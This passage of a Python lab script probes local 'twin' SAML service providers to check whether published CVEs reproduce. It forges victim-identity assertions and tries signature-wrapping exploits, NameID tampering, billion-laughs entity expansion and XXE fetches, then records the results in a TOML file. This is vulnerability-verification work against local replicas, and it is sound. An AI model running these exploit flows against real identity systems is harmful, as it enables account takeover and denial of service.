            sign_assertion(a, key_pem, cert_pem)
            _nameid(a).text = VICTIM
            st, ident, cookie = twin.post(c, acs, build_response(acs, irt, a))
            out.append(f"tampered NameID: ACS HTTP {st}, set-cookie {'yes' if cookie else 'no'}, whoami -> {ident}")
            fact("refusal-signal", f"a refused Response (NameID changed after signing) gets HTTP {st} from the ACS, "
                 f"{'a' if cookie else 'no'} session cookie, and leaves no session (whoami 401)", ident is None)
            # 3. generic leniencies (what the fixed twin is expected to fail or pass for other reasons)
            for key, scen, what, pre, post, extra in LENIENCIES:
                c, irt = fresh()
                if extra.get("unsolicited"):
                    irt_used = ""
                else:
                    irt_used = irt
                a = build_assertion(ATTACKER, entity, acs, irt_used)
                if extra.get("unsolicited"):
                    a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).attrib.pop("InResponseTo")
                if extra.get("replay"):
                    a.set("ID", last_golden_id)
                if pre:
                    pre(a)
                kw = {}
                if isinstance(extra.get("sig"), dict):
                    kw = dict(extra["sig"])
                if extra.get("sig") == "rsa-sha1":
                    kw = {"sig_alg": xmlsec.Transform.RSA_SHA1, "digest_alg": xmlsec.Transform.SHA1}
                elif extra.get("sig") == "sha1-digest":
                    kw = {"digest_alg": xmlsec.Transform.SHA1}
                if kw.get("decoy") or "uri" in kw or "c14n" in kw:
                    # signed in place: the Reference reaches the whole Response, and an inclusive c14n
                    # of SignedInfo takes in the Response's namespace declarations
                    resp = build_response(acs, irt_used, a)
                    if kw.get("decoy"):
                        _decoy_extensions(resp, "_twin_decoy")
                    sign_assertion(a, key_pem, cert_pem, **kw)
                else:
                    sign_assertion(a, key_pem, cert_pem, **kw)
                    resp = build_response(acs, irt_used, a)
                if extra.get("unsolicited"):
                    resp.attrib.pop("InResponseTo")
                if post:
                    post(resp)
                raw = etree.tostring(resp)
                if extra.get("doctype"):
                    dt_ = extra["doctype"] if isinstance(extra["doctype"], bytes) else \
                        b'<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>'
                    raw = dt_ + raw
                st, ident = twin.post_raw(c, acs, raw)
                out.append(f"leniency {key} ({what}): ACS HTTP {st}, whoami -> {ident}")
                fact("accepts-" + key.replace("_", "-"), f"accepts {what} (the case of samlconf {scen})", bool(ident))

            # 4. the CVE exploits
            for cve in spec["cves"]:
                if cve in ENTITY_CVES:
                    entity_exploit(cve, fresh, entity, acs, key_pem, cert_pem, spec["vulnerable"], fact)
                    continue
                c, irt = fresh()
                a = build_assertion(NEAR_VICTIM if cve in NODE_SAML_CVES else ATTACKER, entity, acs, irt)
                sign_assertion(a, key_pem, cert_pem)
                exploit = {"CVE-2020-5390": exploit_cve_2020_5390, "CVE-2021-21238": exploit_cve_2021_21238,
                           "CVE-2025-29774": exploit_cve_2025_29774, "CVE-2025-54419": exploit_cve_2025_54419,
                           "CVE-2025-54369": exploit_cve_2025_54419}[cve]
                forged, genuine = exploit(a)
                resp = build_response(acs, irt, forged)
                if genuine is not None:
                    ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
                    ext.append(genuine)
                    resp.insert(1, ext)
                shape = SHAPES[cve]
                st, ident, cookie = twin.post(c, acs, resp)
                out.append(f"{cve} exploit ({shape}): ACS HTTP {st}, whoami -> {ident}")
                if spec["vulnerable"]:
                    fact(cve.lower(), f"the published exploit signs the victim {VICTIM} in (shape: {shape})", ident == VICTIM)
                else:
                    fact(cve.lower(), f"the published exploit does not sign the victim in: refused, or only the genuinely signed "
                              f"identity (shape: {shape})", ident != VICTIM)
            # 5. pysaml2 >= 6.4.1: the same shape without the wrapper (beyond the advisory)
            if name in ("pysaml2-6.4.1", "pysaml2-6.5.0"):
                c, irt = fresh()
                a = build_assertion(ATTACKER, entity, acs, irt)
                sign_assertion(a, key_pem, cert_pem)
                forged, genuine = exploit_two_signatures_bare(a)
                resp = build_response(acs, irt, forged)
                ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
                ext.append(genuine)
                resp.insert(1, ext)
                st, ident, cookie = twin.post(c, acs, resp)
                out.append(f"two Signatures, no wrapper (the genuine one first, Reference -> the genuine Assertion in "
                           f"samlp:Extensions; a copy retargeted to the forged ID second): ACS HTTP {st}, whoami -> {ident}")
                fact("signs-in-victim-two-signatures-bare", "the forged Assertion (victim) with two ds:Signature children, "
                     "the genuine one first and a retargeted copy second (CVE-2021-21238's shape without the wrapper), "
                     f"signs the victim {VICTIM} in", ident == VICTIM)
        finally:
            twin.stop()
        seconds = time.monotonic() - t0
    return {"facts": facts, "seconds": seconds, "manifest": twin.manifest}, out


def entity_exploit(cve, fresh, entity, acs, key_pem, cert_pem, vulnerable: bool, fact) -> None:
    """CVE-2016-10149 (entity expansion) and CVE-2016-10127 (XXE): not an identity swap. What the
    attacker gets is the parser's expansion (DoS) or its fetch (SSRF / file read): measured as such."""
    out = fact.out  # type: ignore[attr-defined]
    c, irt = fresh()
    a = build_assertion(ATTACKER, entity, acs, irt)
    if cve == "CVE-2016-10149":
        sign_assertion(a, key_pem, cert_pem)
        raw = exploit_entity_expansion(build_response(acs, irt, a))
        t0 = time.monotonic()
        r = c.post(acs, data={"SAMLResponse": base64.b64encode(raw).decode()})
        took = time.monotonic() - t0
        who = c.get(acs.rsplit("/", 1)[0] + "/whoami")
        ident = who.json().get("email") if who.status_code == 200 else None
        out.append(f"{cve} exploit ({SHAPES[cve]}): {len(raw)} bytes posted, 10^{LAUGH_LEVELS} expansions = "
                   f"{3 * 10 ** LAUGH_LEVELS} bytes; ACS HTTP {r.status_code} in {took:.1f} s, whoami -> {ident}")
        if vulnerable:
            fact(cve.lower(), f"the SP's parser expands the attacker's nested entities ({len(raw)} bytes in, "
                 f"{3 * 10 ** LAUGH_LEVELS} bytes of text out) and signs the user in: the billion-laughs expansion "
                 f"is open (shape: {SHAPES[cve]})", ident == ATTACKER)
        else:
            fact(cve.lower(), f"the SP refuses a message declaring entities: nobody signed in (shape: {SHAPES[cve]})",
                 ident is None)
        return
    sign_assertion(a, key_pem, cert_pem)
    watch = Watch()
    try:
        raw = exploit_xxe_oob(build_response(acs, irt, a), watch.url)
        r = c.post(acs, data={"SAMLResponse": base64.b64encode(raw).decode()})
        who = c.get(acs.rsplit("/", 1)[0] + "/whoami")
        ident = who.json().get("email") if who.status_code == 200 else None
        time.sleep(0.5)
        hits = list(watch.hits)
    finally:
        watch.close()
    out.append(f"{cve} exploit ({SHAPES[cve]}): ACS HTTP {r.status_code}, whoami -> {ident}, "
               f"requests at the watched URL: {hits or 'none'}")
    if vulnerable:
        fact(cve.lower(), "the SP fetches the attacker's external entities (the advisory's XXE). Measured here: "
             "holds=false means the standard library's expat (Python 3.11) never loads external entities and "
             "Debian's xmlsec1 1.2.37 needs --xxe to, so the SSRF/file-read half does not reproduce on this "
             f"platform; the entity expansion half is {cve.replace('10127', '10149').lower()} (shape: {SHAPES[cve]})",
             bool(hits))
    else:
        fact(cve.lower(), f"the SP fetches nothing and signs nobody in (shape: {SHAPES[cve]})", not hits and ident is None)


def _toml_str(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def section(name: str, result: dict) -> str:
    m = result["manifest"]
    lines = [f"[{_toml_str(name)}]", f"product = {_toml_str(m['product'])}", f"version = {_toml_str(m['version'])}",
             f"measured_at = {_toml_str(dt.datetime.now(dt.timezone.utc).strftime('%Y-%m-%dT%H:%M:%SZ'))}",
             f"probe = {_toml_str('python lab/twins/probe.py ' + name)}",
             f"probe_seconds = {result['seconds']:.1f}", ""]
    for key, f in result["facts"].items():
        lines.append(f"[{_toml_str(name)}.facts.{_toml_str(key)}]")
        lines.append(f"claim = {_toml_str(f['claim'])}")
        lines.append(f"holds = {'true' if f['holds'] else 'false'}")
        lines.append("output = [")
        lines += [f"  {_toml_str(o)}," for o in f["output"]]
        lines += ["]", ""]
    return "\n".join(lines)


def write_section(name: str, text: str) -> None:
    """Replace (or append) the twin's tables in lab/truth.toml, leaving every other table as it is."""
    old = TRUTH.read_text() if TRUTH.exists() else ""
    mine = (f"[{_toml_str(name)}]", f"[{_toml_str(name)}.")
    blocks = re.split(r"(?m)^(?=\[)", old)
    kept = [b for b in blocks if not b.startswith(mine)]
    new = "".join(kept).rstrip("\n")
    new = (new + "\n\n" if new else "") + text
    tomllib.loads(new)  # still valid TOML
    TRUTH.write_text(new)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("twin", nargs="+", choices=sorted(TWINS))
    p.add_argument("--port", type=int, default=9790, help="loopback port for the twin during the probe (9700-9799)")
    p.add_argument("--write", action="store_true", help="replace the twin's section in lab/truth.toml")
    a = p.parse_args(argv)
    bad = 0
    for name in a.twin:
        result, out = run(name, a.port)
        text = section(name, result)
        print(text)
        if a.write:
            write_section(name, text)
        f = result["facts"]
        nr = TWINS[name].get("not_reproducible", [])
        bad += (not f["golden-login"]["holds"]) or any(not f[c.lower()]["holds"] for c in TWINS[name]["cves"]
                                                         if c not in nr)
        print(f"probe: {name}: {len(f)} facts in {result['seconds']:.1f}s; golden login "
              f"{'works' if f['golden-login']['holds'] else 'FAILED'}; "
              + "; ".join(f"{c} {'as the advisory says' if f[c.lower()]['holds'] else 'does not reproduce here' if c in nr else 'DISAGREES with the advisory'}"
                          for c in TWINS[name]["cves"]), file=sys.stderr)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
